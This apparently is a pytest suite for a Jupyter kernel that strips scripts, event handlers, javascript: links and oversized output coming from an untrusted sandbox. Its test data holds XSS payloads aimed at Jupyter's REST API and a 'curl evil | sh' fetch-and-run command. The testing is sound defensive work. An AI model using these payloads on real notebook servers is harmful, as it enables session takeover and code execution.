"""Threat list: output from a hostile sandbox (issue 12, items 3 and 6).

JupyterLab runs the scripts in a live kernel's output with the user's Jupyter
token, so a script in an output can use the Jupyter REST API: write files, open
a terminal, start a local kernel. On the daytona backend nothing that runs code
may reach the browser, and what is safe still renders the same. A cell can also
bypass the runtime's output limit, so the kernel enforces it too. Each test is
one attack. Most run in-process against the session with a scripted sandbox;
the end-to-end ones at the bottom run real kernels.
"""

from __future__ import annotations

import io
import json
import logging
import tracemalloc
import xml.dom.minidom
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fakes import FakeSandbox, Run, frame
from kernels import Kernel

from daytona_kernel import history
from daytona_kernel.cell import Cell, CellOutcome, Recorder
from daytona_kernel.config import SessionSettings
from daytona_kernel.history import History
from daytona_kernel.outputs import NOTICE_SLACK_CHARS, sanitize_html, sanitize_markdown, sanitize_svg
from daytona_kernel.protocol import IOPUB_TYPES
from daytona_kernel.runtime.calls import Complete, Inspect
from daytona_kernel.runtime.framing import MARK, Frame, FrameDecoder
from daytona_kernel.session import SandboxSession

LOG = logging.getLogger("test-hostile-output")
SCRIPT = "<script>fetch('/api/terminals', {method: 'POST'})</script>"
MB = 1024 * 1024


def session(*runs: Run, **settings: Any) -> SandboxSession:
    return SandboxSession(FakeSandbox(list(runs)), SessionSettings(**settings), LOG)  # type: ignore[arg-type]


async def run_cells(*runs: Run, **settings: Any) -> list[tuple[CellOutcome, Recorder]]:
    """One cell per scripted run, in one session (the daytona backend unless settings say otherwise)."""
    sess = session(*runs, **settings)
    results = []
    for count in range(1, len(runs) + 1):
        front = Recorder()
        results.append((await sess.execute(Cell("cell", count), front), front))
    return results


async def shown(bundle: dict[str, Any], kind: str = "display", **settings: Any) -> tuple[dict[str, Any], Recorder]:
    """The bundle the frontend gets when the sandbox displays ``bundle``."""
    payload: dict[str, Any] = {"data": bundle, "metadata": {}}
    if kind == "result":
        payload["execution_count"] = 1
    frames = []
    if kind == "update":  # an update reaches the page only for a display it shows
        payload["transient"] = {"display_id": "d1"}
        frames.append(frame("display", {"data": {"text/plain": "before"}, "metadata": {}, "transient": {"display_id": "d1"}}))
    ((_, front),) = await run_cells(Run([*frames, frame(kind, payload)]), **settings)
    (content,) = front.of_type(IOPUB_TYPES[kind])
    return content["data"], front


def dom(html: str) -> list[tuple[Any, ...]]:
    """What a browser builds from ``html``, as a list of events (attribute order and quoting ignored)."""
    events: list[tuple[Any, ...]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            events.append(("start", tag, sorted((k, v or "") for k, v in attrs)))

        def handle_endtag(self, tag: str) -> None:
            events.append(("end", tag))

        def handle_data(self, data: str) -> None:
            if data.strip():
                events.append(("text", data.strip()))

    Collect(convert_charrefs=True).feed(html)
    return events


ACTIVE_TAGS = {"script", "iframe", "object", "embed", "form", "foreignobject", "animate", "set", "base", "meta", "link"}


def assert_inert(html: str) -> None:
    """No element that runs code, no on* handler, no javascript: URL: what is left is markup or text."""
    for event in dom(html):
        if event[0] != "start":
            continue
        _, tag, attrs = event
        assert tag not in ACTIVE_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on") and "javascript:" not in value.lower().replace(" ", ""), (name, html)


# -- active content in display data -------------------------------------------------


async def test_display_javascript_does_not_reach_the_browser() -> None:
    data, front = await shown({"application/javascript": "fetch('/api/terminals', {method: 'POST'})", "text/plain": "<JS>"})
    assert data == {"text/plain": "<JS>"}
    assert "application/javascript" in front.text("stderr")


async def test_a_script_tag_in_html_is_removed_and_the_rest_kept() -> None:
    data, _ = await shown({"text/html": f"<p>before</p>{SCRIPT}<p>after</p>"})
    assert data["text/html"] == "<p>before</p><p>after</p>"


async def test_an_onerror_handler_in_html_is_removed() -> None:
    data, _ = await shown({"text/html": '<img src="x" onerror="fetch(\'/api/contents\')">'})
    assert data["text/html"] == '<img src="x">'


async def test_a_javascript_link_in_html_is_removed() -> None:
    data, _ = await shown({"text/html": "<a href=\"javascript:fetch('/api/kernels')\">click</a>"})
    assert_inert(data["text/html"])
    assert "click" in data["text/html"]


async def test_a_script_and_an_onload_handler_in_svg_are_removed() -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(1)"><rect width="5" height="5"/>{SCRIPT}</svg>'
    data, _ = await shown({"image/svg+xml": svg})
    assert_inert(data["image/svg+xml"])
    assert '<rect width="5" height="5">' in data["image/svg+xml"]


async def test_an_svg_cannot_smuggle_html_or_animate_an_href() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img src=x onerror="fetch(1)"></foreignObject>'
        '<a><animate attributeName="href" to="javascript:fetch(1)"/><text>t</text></a></svg>'
    )
    data, _ = await shown({"image/svg+xml": svg})
    assert "foreignobject" not in data["image/svg+xml"].lower() and "animate" not in data["image/svg+xml"]
    assert_inert(data["image/svg+xml"])


async def test_raw_html_in_markdown_is_cleaned() -> None:
    data, _ = await shown({"text/markdown": f'# Title\n\n<img src=x onerror="fetch(1)">\n\n{SCRIPT}\n\n**bold**'})
    assert_inert(data["text/markdown"])
    assert data["text/markdown"].startswith("# Title\n\n") and "**bold**" in data["text/markdown"]


async def test_a_javascript_link_in_markdown_is_blocked() -> None:
    md = "[a](javascript:fetch(1)) [b](jav&#x09;ascript:fetch(1)) [c](java\\script:fetch(1))\n\n[d]: JavaScript:fetch(1)"
    data, _ = await shown({"text/markdown": md})
    assert "script:" not in data["text/markdown"].lower().replace("\\", "")


async def test_markup_hidden_in_markdown_code_cannot_escape_it() -> None:
    md = "<div>\n```\n<img src=x onerror=fetch(1)>\n```\n</div>\n\n`<svg onload=fetch(1)>`"
    data, _ = await shown({"text/markdown": md})
    assert_inert(data["text/markdown"])


async def test_widget_views_and_renderers_that_run_code_are_dropped() -> None:
    data, _ = await shown(
        {
            "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
            "application/vnd.bokehjs_exec.v0+json": "",
            "application/vnd.plotly.v1+json": {"data": []},
            "text/plain": "Figure",
        }
    )
    assert data == {"text/plain": "Figure"}


async def test_an_output_with_nothing_safe_left_says_what_was_removed() -> None:
    data, _ = await shown({"application/javascript": "fetch(1)"})
    assert list(data) == ["text/plain"] and "application/javascript" in data["text/plain"]


async def test_a_jupyterlab_command_link_is_removed() -> None:
    data, _ = await shown({"text/html": '<div data-commandlinker-command="terminal:create-new">click me</div>'})
    assert data["text/html"] == "<div>click me</div>"


async def test_frames_forms_and_text_inputs_are_removed() -> None:
    html = '<iframe src="/lab"></iframe><form action="/api/contents"><input type="text" name="q"></form>ok'
    data, _ = await shown({"text/html": html})
    assert data["text/html"] == "<input>ok"


async def test_a_data_url_may_be_an_image_but_never_a_link() -> None:
    html = '<a href="data:text/html,<script>fetch(1)</script>">x</a><img src="data:image/png;base64,iVBORw0K">'
    data, _ = await shown({"text/html": html})
    assert 'href="data:' not in data["text/html"] and '<img src="data:image/png;base64,iVBORw0K">' in data["text/html"]


async def test_an_execute_result_and_a_display_update_are_cleaned_too() -> None:
    for kind in ("result", "update"):
        data, _ = await shown({"text/html": f"<b>x</b>{SCRIPT}"}, kind=kind)
        assert data["text/html"] == "<b>x</b>", kind


async def test_a_malformed_bundle_value_is_dropped() -> None:
    data, _ = await shown({"text/plain": ["not", "a", "string"], "text/html": "<b>ok</b>"})
    assert data == {"text/html": "<b>ok</b>"}
    # trusted output may hold anything, as with ipykernel; but the kernel keeps text/plain for history
    data, _ = await shown({"text/plain": 5, "a": 1}, kind="result", output_policy="trusted")
    assert data == {"a": 1}


# -- what must still render the same ------------------------------------------------


def test_a_dataframes_html_renders_the_same() -> None:
    pd = pytest.importorskip("pandas")
    frame_ = pd.DataFrame({"n": [1.5, 2, 3], "square": [1, 4, 9], "text": ["a < b", "x & y", "<tag>"]})
    assert dom(sanitize_html(frame_._repr_html_())) == dom(frame_._repr_html_())
    styled = frame_[["n", "square"]].style.background_gradient(subset=["n"]).format(precision=2)._repr_html_()
    assert "background-color" in styled and dom(sanitize_html(styled)) == dom(styled)


def test_a_matplotlib_svg_stays_a_valid_image() -> None:
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.plot([1, 3, 2])
    ax.set_title("sandbox plot")
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    cleaned = sanitize_svg(buf.getvalue())
    document = xml.dom.minidom.parseString(cleaned)  # JupyterLab shows SVG as an <img>: it must be XML
    assert document.documentElement.tagName == "svg"
    assert len(document.getElementsByTagName("use")) == len(buf.getvalue().split("<use ")) - 1
    assert len(document.getElementsByTagName("path")) == len(buf.getvalue().split("<path ")) - 1


def test_markdown_without_markup_is_left_exactly_as_it_is() -> None:
    md = "# Title\n\n> a quote & more\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y` and [link](https://example.com)\n"
    assert sanitize_markdown(md) == md


def test_markdown_code_with_markup_keeps_showing_the_code() -> None:
    md = "Use `List<int>` here.\n\n```python\nif a<b:\n    print('<b>')\n```\n"
    out = sanitize_markdown(md)
    assert "<code>List&lt;int&gt;</code>" in out
    assert '<pre><code class="language-python">if a&lt;b:\n    print(&#x27;&lt;b&gt;&#x27;)\n</code></pre>' in out


async def test_images_json_and_latex_pass_unchanged_beside_a_dropped_script() -> None:
    bundle = {"image/png": "iVBORw0KGgo=", "application/json": {"a": [1, 2]}, "text/latex": "$x^2$", "text/plain": "p"}
    data, _ = await shown(dict(bundle, **{"application/javascript": "fetch(1)"}))
    assert data == bundle


# -- payloads and replies ----------------------------------------------------------------


async def test_set_next_input_cannot_replace_the_users_cell() -> None:
    payload = {"source": "set_next_input", "text": "import os; os.system('curl evil | sh')", "replace": True}
    ((outcome, front),) = await run_cells(Run([frame("payload", payload)]))
    assert outcome.payload == [{"source": "set_next_input", "text": payload["text"], "replace": False}]
    assert "set_next_input" in front.text("stderr")


async def test_a_page_payload_is_cleaned_like_display_data() -> None:
    payload = {"source": "page", "data": {"text/html": f"<b>help</b>{SCRIPT}", "text/plain": "help"}, "start": 0}
    ((outcome, _),) = await run_cells(Run([frame("payload", payload)]))
    assert outcome.payload == [{"source": "page", "data": {"text/html": "<b>help</b>", "text/plain": "help"}, "start": 0}]


async def test_an_unknown_payload_is_dropped() -> None:
    ((outcome, _),) = await run_cells(Run([frame("payload", {"source": "edit_magic", "filename": "/etc/passwd"})]))
    assert outcome.payload == []


async def test_user_expressions_are_cleaned() -> None:
    values = {"x": {"status": "ok", "data": {"text/html": SCRIPT, "application/javascript": "1"}, "metadata": {}}}
    ((outcome, _),) = await run_cells(Run([frame("user_expressions", values)]))
    assert outcome.user_expressions == {"x": {"status": "ok", "data": {"text/html": ""}, "metadata": {}}}


async def test_an_inspect_reply_is_cleaned() -> None:
    reply = {"found": True, "data": {"text/html": f"<b>doc</b>{SCRIPT}", "application/javascript": "1"}, "metadata": {}}
    sess = session(Run(["hi\n"]), Run([frame("reply", reply)]), Run([]))
    await sess.execute(Cell("x", 1), Recorder())
    answer = await sess.query(Inspect(code="x", cursor=1, detail_level=0))
    assert answer == {"found": True, "data": {"text/html": "<b>doc</b>"}, "metadata": {}}
    front = Recorder()
    await sess.execute(Cell("y", 2), front)  # the notice comes with the next cell's output
    assert "scripts in text/html" in front.text("stderr")


async def test_a_complete_reply_keeps_only_the_fields_of_a_completion() -> None:
    reply = {"matches": ["abc", {"html": SCRIPT}], "cursor_start": 0, "cursor_end": 2, "status": "error", "data": {"x": 1}}
    sess = session(Run([]), Run([frame("reply", reply)]))
    await sess.execute(Cell("x", 1), Recorder())
    assert await sess.query(Complete(code="ab", cursor=2)) == {"matches": ["abc"], "cursor_start": 0, "cursor_end": 2}


# -- the notice and the setting ------------------------------------------------------------


async def test_the_notice_is_said_once_per_kernel_and_says_how_to_trust() -> None:
    js = frame("display", {"data": {"application/javascript": "1", "text/plain": "js"}})
    table = frame("display", {"data": {"text/html": '<table class="x"><tr><td style="color: red">done = 1</td></tr></table>'}})
    (_, harmless), (_, first), (_, second) = await run_cells(Run([table]), Run([js]), Run([js]))
    assert harmless.text("stderr") == ""  # nothing removed, nothing said
    assert "output_policy = 'trusted'" in first.text("stderr") and "DAYTONA_KERNEL_OUTPUT_POLICY" in first.text("stderr")
    assert second.text("stderr") == ""


async def test_output_policy_trusted_shows_everything() -> None:
    bundle = {"application/javascript": "1", "text/html": SCRIPT}
    data, front = await shown(dict(bundle), output_policy="trusted")
    assert data == bundle and front.text("stderr") == ""


async def test_the_local_backend_is_trusted_by_default_and_daytona_is_not() -> None:
    bundle = {"text/html": SCRIPT}
    assert (await shown(dict(bundle), backend="local"))[0] == bundle
    assert (await shown(dict(bundle), backend="daytona"))[0] == {"text/html": ""}
    assert (await shown(dict(bundle), backend="local", output_policy="safe"))[0] == {"text/html": ""}


# -- size (issue 12, item 6) ----------------------------------------------------------------


async def test_stream_output_past_the_limit_is_cut_in_the_kernel() -> None:
    chunk = "x" * (256 * 1024)
    ((outcome, front),) = await run_cells(Run([chunk] * 12, stderr=[chunk] * 4), output_limit_mb=1.0)
    shown_chars = len(front.text()) + len(front.text("stderr"))
    notice = [c["text"] for k, c in front.outputs if k == "stream" and "daytona-kernel" in c["text"]]
    assert shown_chars <= MB + NOTICE_SLACK_CHARS + len("".join(notice))
    assert len(notice) == 1 and "limit of 1 MB" in notice[0] and "3.0 MB more were dropped" in notice[0]
    assert outcome.error is None


async def test_display_data_past_the_limit_is_dropped() -> None:
    image = frame("display", {"data": {"image/png": "A" * (400 * 1024)}})
    ((_, front),) = await run_cells(Run([image] * 5 + ["still here\n"]), output_limit_mb=1.0)
    assert len(front.of_type("display_data")) == 2 and front.text() == "still here\n"
    assert "more were dropped" in front.text("stderr")


async def test_a_flood_of_output_stays_interruptible() -> None:
    import asyncio

    forever = asyncio.Event()
    sess = session(Run(["y" * MB] * 8, wait=forever), Run(["fresh\n"]), output_limit_mb=1.0, interrupt_grace=0.05)
    front = Recorder()
    running = asyncio.ensure_future(sess.execute(Cell("while True: os.write(1, b'y' * 2**20)", 1), front))
    while sess.inflight.request is None:
        await asyncio.sleep(0.001)
    await sess.interrupt()
    outcome = await running
    assert outcome.error is not None and outcome.error["ename"] == "KeyboardInterrupt"
    assert len(front.text()) <= MB + NOTICE_SLACK_CHARS
    after = Recorder()
    await sess.execute(Cell("print('fresh')", 2), after)
    assert after.text() == "fresh\n"


def test_a_marker_line_without_an_end_is_not_rescanned_on_every_chunk() -> None:
    """19 MB of one frame line with no newline yet, in 64 KB chunks: each chunk costs the decoder
    work and memory for that chunk only. (Measured as memory, which is deterministic: the old
    decoder copied everything held so far on every chunk, 1.4 s of CPU for 19 MB.)"""
    chunk_chars = 64 * 1024
    dec = FrameDecoder("tok", max_piece_chars=32 * MB)  # under the piece limit: the line is held, not dropped
    assert dec.feed(MARK + 'tok . ["display", "') == []
    chunk = "x" * chunk_chars
    peaks = []
    tracemalloc.start()
    try:
        for _ in range(19 * MB // chunk_chars):
            before = tracemalloc.get_traced_memory()[0]
            tracemalloc.reset_peak()
            assert dec.feed(chunk) == []
            peaks.append(tracemalloc.get_traced_memory()[1] - before)
    finally:
        tracemalloc.stop()
    assert max(peaks) < 4 * chunk_chars, max(peaks)
    (event,) = dec.feed('"]\n')
    assert isinstance(event, Frame) and len(event.payload) == len(peaks) * chunk_chars


def test_history_keeps_a_bounded_result() -> None:
    hist = History()
    for line in range(1, 6):
        hist.store(line, "big", "r" * (20 * MB))
    kept = [entry[2][1] for entry in hist.query("tail", output=True, n=5)]
    assert all(len(text) < history.OUTPUT_CHARS + 100 for text in kept)
    assert kept[0].startswith("r" * 100) and f"{20 * MB - history.OUTPUT_CHARS} more characters" in kept[0]


# -- end to end ---------------------------------------------------------------------------

ATTACKS = {
    "javascript": "from IPython.display import Javascript, display\ndisplay(Javascript('window.__owned = 1'))",
    "script": "from IPython.display import HTML, display\ndisplay(HTML('<b>x</b><script>window.__owned = 1</script>'))",
    "onerror": 'from IPython.display import HTML, display\ndisplay(HTML(\'<img src="nope" onerror="window.__owned = 1">\'))',
    "svg": "from IPython.display import SVG, display\n"
    'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__owned = 1"><rect width="1" height="1"/>'
    "<script>window.__owned = 1</script></svg>'))",
}
DATAFRAME = "import pandas as pd\npd.DataFrame({'n': [1, 2, 3], 'square': [1, 4, 9]})"
FORGE = "import sys\nrt = sys.modules['_daytona_kernel_runtime'].current\n"


def bundles(run: Any) -> str:
    return json.dumps([m["content"] for m in run.outputs if m["msg_type"] in ("display_data", "execute_result")])


@pytest.mark.slow
def test_end_to_end_active_content_does_not_reach_iopub_on_daytona(daytona_env: Any, workdir: Path) -> None:
    """The scripts never leave the kernel on daytona; on the local backend (trusted by default,
    its cells already run as the user) the same output arrives as ipykernel would send it."""
    pd = pytest.importorskip("pandas")
    with Kernel("daytona", cwd=str(workdir)) as k:
        runs = {name: k.execute(code) for name, code in ATTACKS.items()}
        for name, run in runs.items():
            assert run.status == "ok", (name, run.reply)
            assert "__owned" not in bundles(run) and "application/javascript" not in bundles(run), name
        assert "output_policy" in runs["javascript"].text("stderr")
        assert all("output_policy" not in run.text("stderr") for name, run in runs.items() if name != "javascript")
        frame_run = k.execute(DATAFRAME)
        (result,) = frame_run.of_type("execute_result")
        expected = pd.DataFrame({"n": [1, 2, 3], "square": [1, 4, 9]})._repr_html_()
        assert dom(result["data"]["text/html"]) == dom(expected)
    with Kernel("daytona-local", cwd=str(workdir)) as k:
        run = k.execute(ATTACKS["script"])
        assert "<script>window.__owned = 1</script>" in bundles(run) and run.text("stderr") == ""


@pytest.mark.slow
def test_end_to_end_a_forged_inspect_reply_and_set_next_input_are_cleaned(daytona_env: Any, workdir: Path) -> None:
    forge = FORGE + (
        "def evil(code, cursor, detail_level=0):\n"
        "    with rt.request_output():\n"
        "        rt.send('reply', {'found': True, 'data': {'text/html': '<b>doc</b><script>window.__owned = 1</script>'}, "
        "'metadata': {}})\n"
        "rt.inspect = evil\n"
        "get_ipython().set_next_input('rewritten', replace=True)\n"
    )
    with Kernel("daytona", cwd=str(workdir)) as k:
        run = k.execute(forge)
        assert run.status == "ok", run.reply
        assert run.reply["content"]["payload"] == [{"source": "set_next_input", "text": "rewritten", "replace": False}]
        reply = k.request("inspect", "print", 3)
        assert reply["data"] == {"text/html": "<b>doc</b>"}


@pytest.mark.slow
def test_end_to_end_a_cell_that_bypasses_the_runtimes_output_limit_is_cut_by_the_kernel(kernel_name: str, workdir: Path) -> None:
    code = FORGE + "rt.output_budget = 0\nfor _ in range(8):\n    print('z' * 100_000)\n"
    with Kernel(kernel_name, cwd=str(workdir), env={"DAYTONA_KERNEL_OUTPUT_LIMIT_MB": "0.1"}) as k:
        run = k.execute(code)
        assert run.status == "ok", run.reply
        assert len(run.text()) <= int(0.1 * MB) + NOTICE_SLACK_CHARS
        assert "more were dropped in the kernel" in run.text("stderr")
        assert k.execute("print(6 * 7)").text() == "42\n"


def test_a_lone_surrogate_in_printed_text_shows_as_the_replacement_character(kernel_name: str, workdir: Path) -> None:
    """Daytona's daemon reads the worker's escaped lone surrogate as U+FFFD (Go's JSON decoder); the local
    backend does the same, so Jupyter's packer never meets a string it cannot encode (the cell ended with an
    internal UnicodeEncodeError on the local backend; stock ipykernel loses the print)."""
    with Kernel(kernel_name, cwd=str(workdir)) as k:
        run = k.execute("print('a\\ud800b')")
        assert run.reply["content"]["status"] == "ok", run.errors
        assert run.text() == "a\ufffdb\n"
